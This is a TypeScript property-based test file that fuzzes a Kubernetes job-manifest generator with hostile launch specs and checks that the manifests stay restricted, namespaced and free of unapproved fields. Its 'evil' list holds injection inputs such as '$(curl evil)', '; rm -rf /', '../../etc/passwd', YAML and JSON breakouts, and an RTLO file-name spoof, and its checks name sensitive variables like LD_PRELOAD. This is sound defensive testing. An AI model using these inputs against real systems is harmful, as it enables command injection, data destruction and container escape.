import fc from 'fast-check'
import { DomainError } from '#schema/domain/errors.ts'
import { newId } from '#schema/domain/id.ts'
import type { Json } from '#schema/domain/canonical-json.ts'
import type { Component } from '#schema/domain/spec.ts'
import type { Launch } from '#server/executor/executor.ts'
import { compileDevices, type Abilities } from '#server/executor/kubernetes/devices.ts'
import { attemptManifest, refusedImage } from '#server/executor/kubernetes/job-manifest.ts'
import { jobName, namespaceOf } from '#server/executor/kubernetes/names.ts'
import { pathsOf, restrictedFaults } from './pod-security.ts'

export const testAbilities: Abilities = {
  version: { major: 1, minor: 36 },
  dra: true,
  classes: [
    {
      name: 'gpu.nvidia.com',
      selectors: ["device.driver == 'gpu.nvidia.com'"],
      extendedResourceName: 'nvidia.com/gpu',
    },
  ],
  draProducts: ['NVIDIA L4'],
  draArchitectures: ['Ada Lovelace'],
  draProfiles: [],
  extended: {},
  labels: { products: [], families: [], memory: false, sharing: [] },
  kueue: false,
  hami: false,
}

const evil = [
  '$(curl evil)',
  '$(KUBERNETES_SERVICE_HOST)',
  '$$(HOME)',
  '; rm -rf /',
  '\n---\napiVersion: v1',
  '../../etc/passwd',
  '{{.}}',
  '"}},"hostNetwork":true,"x":{"',
  'x'.repeat(300),
  '\u202Egpj.exe',
  'ех.io/image',
  '-privileged',
  '__proto__',
  'constructor',
  '',
]
const words = [
  'privileged',
  'hostPath',
  'hostNetwork',
  'securityContext',
  'serviceAccountName',
  'podSpecPatch',
  'volumes',
  'nodeName',
  'namespace',
  'kube-system',
  'runAsUser',
  'capabilities',
  'LD_PRELOAD',
  'PATH',
  'KUBERNETES_SERVICE_HOST',
  'AUTODIDACT_RUN',
  'COURIER_TOKEN',
  'NVIDIA_VISIBLE_DEVICES',
]
const text = fc.oneof(
  { weight: 60, arbitrary: fc.constantFrom(...evil, ...words) },
  { weight: 40, arbitrary: fc.string({ unit: 'grapheme', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.constant('a\0b') },
)
const json = fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>
const number = fc.oneof(
  fc.constantFrom(0, -1, 1e9, 1e308, Number.NaN, Infinity, 0.5, 4, 2 ** 53),
  fc.double(),
)
const quantity = fc.record({
  text: fc.constantFrom('24GB', '-1Gi', '1e999Gi', '80Gi'),
  bytes: number,
})
const extensions = fc.dictionary(text, json, { maxKeys: 4 })
const some = <T>(value: fc.Arbitrary<T>) => fc.option(value, { nil: undefined, freq: 2 })
/** One bad figure has a whole launch refused: most must be good for the rest to be looked at. */
const mostly = <G, B>(good: fc.Arbitrary<G>, bad: fc.Arbitrary<B>) =>
  fc.oneof<fc.WeightedArbitrary<G | B>[]>(
    { weight: 12, arbitrary: good },
    { weight: 1, arbitrary: bad },
  )

/** Drops what is undefined: an absent key is not a key without a value. */
function present<T extends object>(value: T): T {
  return Object.fromEntries(Object.entries(value).filter(([, it]) => it !== undefined)) as T
}

/** Specs as nobody's schema has checked them: all the fields, with all that could do harm in them. */
export const hostileLaunch: fc.Arbitrary<Launch> = fc
  .record({
    name: text,
    registry: mostly(fc.constantFrom('autodidact/trainer', 'ghcr.io/acme/tool'), text),
    tag: mostly(fc.constantFrom('1', 'latest', `sha256:${'a'.repeat(64)}`), text),
    command: some(fc.array(text, { maxLength: 4 })),
    args: some(fc.array(text, { maxLength: 4 })),
    gpuType: some(mostly(fc.constantFrom('L4', 'H100 or A100', 'Hopper'), text)),
    gpuCount: some(mostly(fc.integer({ min: 0, max: 8 }), number)),
    gpuMemory: some(mostly(fc.constant({ text: '24GB', bytes: 24e9 }), quantity)),
    gpuShare: some(mostly(fc.constant<Json>('full'), json)),
    cores: some(mostly(fc.constantFrom(0.5, 4), number)),
    memory: some(mostly(fc.constant({ text: '8Gi', bytes: 2 ** 33 }), quantity)),
    params: fc.dictionary(text, json, { maxKeys: 5 }),
    environment: fc.dictionary(text, text, { maxKeys: 6 }),
    extensions,
    imageExtensions: extensions,
    storage: mostly(
      fc.constantFrom(
        { type: 'local', path: '/datasets/x' },
        { type: 'distributed', path: '/cephfs/set' },
      ),
      fc.record({ type: fc.constantFrom('distributed', 's3', 'hostPath'), path: text }),
    ),
    nodes: fc.constantFrom({}, { pool: 'gpu' }),
    spot: some(fc.boolean()),
    ordinal: fc.integer({ min: 1, max: 9 }),
  })
  .map((it) => ({
    attemptId: newId(),
    projectId: '01990000-0000-7000-8000-000000000001',
    runId: newId(),
    stepId: newId(),
    ordinal: it.ordinal,
    component: present({
      order: 1,
      name: it.name,
      type: 'custom',
      image: { registry: it.registry, tag: it.tag, extensions: it.imageExtensions },
      command: it.command,
      args: it.args,
      resources: present({
        gpuType: it.gpuType,
        gpuCount: it.gpuCount,
        gpuMemory: it.gpuMemory,
        gpuShare: it.gpuShare,
        cpu: it.cores === undefined ? undefined : { written: it.cores, cores: it.cores },
        memory: it.memory,
        extensions: it.extensions,
      }),
      params: it.params,
      spot: it.spot,
      extensions: it.extensions,
    }) as unknown as Component,
    params: it.params,
    environment: it.environment,
    inputs: [],
    outputs: [],
    storage: it.storage,
    nodes: it.nodes,
    devices: [],
  }))

export const manifestSettings = {
  installation: '0123456789abcdef',
  courierImage: 'autodidact/courier:1',
  componentsImage: 'autodidact/components:1',
  allowedImages: ['ghcr.io/acme/*'],
  allowedClaims: ['cephfs'],
  scratch: '100Gi',
  publicUrl: 'http://10.88.0.1:4173',
  launchHash: 'hash',
}

/** The manifest of a launch, or null where it was refused by name. Any other error is a fault of ours. */
export function manifestOf(
  launch: Launch,
): { job: any; secret: any; claimTemplates: any[] } | null {
  const namespace = namespaceOf('autodidact', 'per-project', launch.projectId)
  const name = jobName({ installation: manifestSettings.installation, ...launch })
  try {
    if (refusedImage(launch.component, manifestSettings.allowedImages) !== null) return null
    const devices = compileDevices(launch.component.resources, testAbilities, {
      name,
      namespace,
      labels: {},
      form: launch.ordinal - 1,
    })
    return attemptManifest(
      launch,
      devices,
      { courier: 'c', mlflow: 'm' },
      { ...manifestSettings, name, namespace },
    ) as { job: any; secret: any; claimTemplates: any[] }
  } catch (error) {
    if (error instanceof DomainError) return null
    throw error
  }
}

/** Every field of a pod that a manifest of ours may have. A new one is a decision, taken here. */
const podFields = new Set(
  `restartPolicy automountServiceAccountToken enableServiceLinks terminationGracePeriodSeconds
  securityContext securityContext.runAsNonRoot securityContext.runAsUser securityContext.runAsGroup
  securityContext.fsGroup securityContext.seccompProfile securityContext.seccompProfile.type
  nodeSelector nodeSelector.* tolerations tolerations.* tolerations.*.key tolerations.*.operator tolerations.*.effect
  tolerations.*.tolerationSeconds affinity affinity.nodeAffinity affinity.nodeAffinity.*
  resourceClaims resourceClaims.* resourceClaims.*.name resourceClaims.*.resourceClaimTemplateName
  volumes volumes.* volumes.*.name volumes.*.emptyDir volumes.*.emptyDir.medium volumes.*.emptyDir.sizeLimit
  volumes.*.persistentVolumeClaim volumes.*.persistentVolumeClaim.claimName volumes.*.persistentVolumeClaim.readOnly
  containers containers.* initContainers initContainers.*`.split(/\s+/),
)
const containerFields = new Set(
  `name image imagePullPolicy command command.* args args.* restartPolicy terminationMessagePolicy env env.* env.*.name
  env.*.value env.*.valueFrom env.*.valueFrom.secretKeyRef env.*.valueFrom.secretKeyRef.name
  env.*.valueFrom.secretKeyRef.key resources resources.requests resources.requests.* resources.limits
  resources.limits.* resources.claims resources.claims.* resources.claims.*.name securityContext
  securityContext.allowPrivilegeEscalation securityContext.readOnlyRootFilesystem securityContext.capabilities
  securityContext.capabilities.drop securityContext.capabilities.drop.* volumeMounts volumeMounts.*
  volumeMounts.*.name volumeMounts.*.mountPath volumeMounts.*.subPath volumeMounts.*.readOnly`.split(
    /\s+/,
  ),
)
const dataKeys = ['nodeSelector', 'affinity.nodeAffinity', 'resources.requests', 'resources.limits']

/** What is wrong with a manifest; empty when it is "restricted", stays in its namespace, and has no field that we did not choose. */
export function manifestFaults(
  launch: Launch,
  made: NonNullable<ReturnType<typeof manifestOf>>,
): string[] {
  const namespace = namespaceOf('autodidact', 'per-project', launch.projectId)
  const faults: string[] = []
  const { job, secret, claimTemplates } = made
  for (const object of [job, secret, ...claimTemplates]) {
    const { name, namespace: its, labels = {} } = object.metadata
    if (its !== namespace) faults.push(`${object.kind} in ${its}`)
    if (!/^ad-[a-z2-7]{26}$/.test(name)) faults.push(`${object.kind} named ${name}`)
    for (const value of Object.values<string>(labels))
      if (!/^([A-Za-z0-9]([A-Za-z0-9_.-]{0,61}[A-Za-z0-9])?)?$/.test(value))
        faults.push(`label ${value}`)
  }
  const { spec } = job.spec.template
  faults.push(...restrictedFaults(spec))
  if (spec.automountServiceAccountToken !== false) faults.push('mounts a service account token')
  if (spec.serviceAccountName !== undefined) faults.push('names a service account')
  const { containers, initContainers, ...pod } = spec
  for (const path of pathsOf(pod, dataKeys))
    if (!podFields.has(path) && !path.startsWith('affinity.nodeAffinity.'))
      faults.push(`pod field ${path}`)
  for (const container of [...containers, ...initContainers]) {
    for (const path of pathsOf(container, dataKeys))
      if (!containerFields.has(path)) faults.push(`container field ${path}`)
    for (const { name } of container.env) {
      if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(name)) faults.push(`variable ${name}`)
      if (/^(LD_|KUBERNETES_|PYTHONPATH$|PATH$)/.test(name)) faults.push(`variable ${name}`)
    }
    const names = container.env.map((it: { name: string }) => it.name)
    if (new Set(names).size !== names.length) faults.push('a variable twice')
  }
  const [main] = containers
  if (containers.length !== 1) faults.push('more than one container')
  const allowed =
    main.image === manifestSettings.componentsImage ||
    /^ghcr\.io\/acme\/[\w./-]+[:@]/.test(main.image)
  if (!allowed) faults.push(`image ${main.image}`)
  if (main.env.some((it: { name: string }) => it.name === 'COURIER_TOKEN'))
    faults.push("the step has the courier's token")
  for (const part of [
    ...(main.command ?? []),
    ...(main.args ?? []),
    ...main.env.map((it: any) => it.value ?? ''),
  ])
    if (/(^|[^$])(\$\$)*\$(?!\$)/.test(part)) faults.push(`expands ${JSON.stringify(part)}`)
  return faults
}
